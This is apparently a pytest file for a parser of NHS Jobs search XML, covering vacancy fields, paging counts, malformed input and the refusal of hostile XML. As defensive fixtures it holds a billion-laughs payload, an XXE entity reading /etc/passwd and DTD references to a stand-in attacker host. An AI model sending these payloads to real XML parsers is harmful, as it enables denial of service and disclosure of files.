"""NHS Jobs search XML: records and paging counts read; hostile or broken XML handled."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from services.common.ingest import FeedError, Reject
from services.vacancies.adapters.nhs_xml import (
    PageInfo,
    has_records,
    parse_nhs_xml,
    read_page_info,
)
from services.vacancies.adapters.records import VacancyRecord

FIXTURES = Path(__file__).parent / "fixtures"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<results totalPages="1"><vacancyDetails><id>1</id><title>&lol9;</title></vacancyDetails></results>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE results [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<results><vacancyDetails><id>1</id><title>&secret;</title></vacancyDetails></results>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE results SYSTEM "http://attacker.invalid/evil.dtd">
<results><vacancyDetails><id>1</id><title>Porter</title></vacancyDetails></results>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE results [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<results/>
"""
PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE results>
<results/>
"""


def _parse_file(name: str) -> list[VacancyRecord | Reject]:
    with (FIXTURES / name).open("rb") as stream:
        return list(parse_nhs_xml(stream))


def _parse(data: bytes) -> list[VacancyRecord | Reject]:
    return list(parse_nhs_xml(io.BytesIO(data)))


def test_a_search_page_lands_good_records_and_rejects_the_bad_one() -> None:
    items = _parse_file("nhs_search_page.xml")
    assert len(items) == 4
    hcsw, porter, untitled, apprentice = items
    assert isinstance(untitled, Reject)
    assert (untitled.position, untitled.external_id, untitled.reason) == (
        2,
        "C9000-25-0103",
        "no title",
    )
    assert isinstance(hcsw, VacancyRecord)
    assert hcsw.external_id == "C9000-25-0101"
    assert hcsw.employer == "Northgate Hospitals NHS Foundation Trust"
    assert (hcsw.salary_min, hcsw.salary_max, hcsw.salary_period) == (24071, 25674, "year")
    assert hcsw.salary_text == "£24,071 to £25,674 a year"
    assert hcsw.closing_date == date(2025, 4, 2)
    assert hcsw.posted_at == datetime(2025, 3, 10, 8, 30, tzinfo=UTC)
    assert hcsw.contract == "permanent"
    assert hcsw.postcode == "NG9 1ZZ"
    assert hcsw.locality == "Northgate General Hospital, Northgate"
    assert (
        hcsw.description
        == "Help patients with daily living on our stroke unit.\n37.5 hours per week."
    )
    assert hcsw.hours_per_week == 37.5
    assert isinstance(porter, VacancyRecord)
    assert porter.contract == "bank" and porter.working_pattern == ["bank"]
    assert (porter.salary_min, porter.salary_period) == (12.21, "hour")
    assert porter.closing_date == date(2025, 4, 15)
    # locations/locations: the location naming a postcode is taken.
    assert porter.postcode == "SG4 7QP"
    assert isinstance(apprentice, VacancyRecord)
    assert apprentice.external_id == "APP-44"  # no id: the employer's reference
    assert apprentice.contract == "apprenticeship"
    assert apprentice.salary_min is None and apprentice.salary_text == "Depending on experience"
    assert apprentice.postcode is None and apprentice.locality == "Westmoor"
    assert apprentice.closing_date == date(2025, 5, 1)


def test_namespaced_page_with_counts_as_children() -> None:
    items = _parse_file("nhs_search_children.xml")
    assert [getattr(i, "external_id", None) for i in items] == ["919191", "919192"]
    admin = items[0]
    assert isinstance(admin, VacancyRecord)
    assert admin.band == "2" and admin.hours_per_week == 22.5
    assert admin.contract == "fixed_term"
    assert admin.postcode == "EF1 2GH" and admin.locality == "Eastfield"
    assert admin.posted_at == datetime(2025, 3, 14, 11, 0, tzinfo=UTC)
    assert admin.closing_date == date(2025, 3, 28)


@pytest.mark.parametrize(
    ("name", "info"),
    [
        ("nhs_search_page.xml", PageInfo(total_pages=3, total_results=7)),
        ("nhs_search_children.xml", PageInfo(total_pages=2, total_results=2)),
    ],
)
def test_page_info(name: str, info: PageInfo) -> None:
    assert read_page_info((FIXTURES / name).read_bytes()) == info


def test_page_info_when_the_page_does_not_say() -> None:
    assert read_page_info(b"<results><vacancyDetails/></results>") == PageInfo(None, None)
    assert read_page_info(b'<results totalPages="n/a"/>') == PageInfo(None, None)


def test_empty_pages() -> None:
    empty = b'<results totalPages="0" totalResults="0"></results>'
    assert _parse(empty) == []
    assert not has_records(empty)
    assert has_records((FIXTURES / "nhs_search_page.xml").read_bytes())


@pytest.mark.parametrize(
    "hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DTD]
)
def test_hostile_xml_is_refused_before_any_expansion(hostile: bytes) -> None:
    with pytest.raises(FeedError, match="refused XML"):
        _parse(hostile)
    with pytest.raises(FeedError):
        read_page_info(hostile)
    with pytest.raises(FeedError):
        has_records(hostile)


def test_malformed_xml_after_good_records_keeps_them_and_rejects_the_rest() -> None:
    body = (
        b'<results totalPages="1">'
        b"<vacancyDetails><id>1</id><title>Porter</title></vacancyDetails>"
        b"<vacancyDetails><id>2</id><title>Cook</title></vacancyDetails>"
        b"<vacancyDetails><id>3</id><title>Clerk</titel></vacancyDetails>"
        b"<vacancyDetails><id>4</id><title>Driver</title></vacancyDetails>"
        b"</results>"
    )
    items = _parse(body)
    assert [getattr(i, "external_id", None) for i in items[:2]] == ["1", "2"]
    reject = items[2]
    assert isinstance(reject, Reject)
    assert reject.position == 2
    assert "malformed XML" in reject.reason and "line 1" in reject.reason
    assert len(items) == 3


def test_truncated_page_keeps_the_records_before_the_cut() -> None:
    body = (FIXTURES / "nhs_search_page.xml").read_bytes()
    cut = body[: body.index(b"<vacancyDetails>", body.index(b"C9000-25-0102"))]
    items = _parse(cut)
    assert [getattr(i, "external_id", None) for i in items[:2]] == [
        "C9000-25-0101",
        "C9000-25-0102",
    ]
    assert isinstance(items[2], Reject) and items[2].position == 2


@pytest.mark.parametrize("body", [b"", b"not xml at all", b'{"json": true}'])
def test_a_body_that_is_not_xml_is_a_feed_error(body: bytes) -> None:
    with pytest.raises(FeedError, match="not XML"):
        _parse(body)


def test_a_record_without_any_identifier_is_rejected() -> None:
    [reject] = _parse(b"<results><vacancyDetails><title>Porter</title></vacancyDetails></results>")
    assert isinstance(reject, Reject)
    assert reject.reason.startswith("no identifier") and reject.position == 0


def test_optional_staff_group_and_band_elements_are_read() -> None:
    [record] = _parse(
        b"<results><vacancyDetails><id>9</id><title>Clerk</title>"
        b"<staffGroup>Administrative and Clerical</staffGroup><band>Band 3</band>"
        b"<workingPattern>Part time, Flexible working</workingPattern>"
        b"</vacancyDetails></results>"
    )
    assert isinstance(record, VacancyRecord)
    assert record.category == "Administrative and Clerical"
    assert record.band == "3"
    assert record.working_pattern == ["part_time", "flexible"]
